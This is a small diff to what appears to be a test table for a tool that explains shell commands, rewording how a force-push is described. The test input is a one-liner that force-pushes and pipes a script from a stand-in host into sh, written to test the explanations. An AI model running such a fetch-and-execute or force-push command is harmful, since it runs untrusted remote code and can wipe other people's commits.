@@ -22,7 +22,7 @@ test.each([
     [
       "bash -c 'git push --force && curl https://e.example/i.sh | sh'",
       '  git push --force',
-      '    = overwrites what is on the remote, whoever pushed it',
+      '    = overwrites what is on the remote, including commits of other people',
       '  curl https://e.example/i.sh',
       '    = fetches from e.example',
       '  pipe',
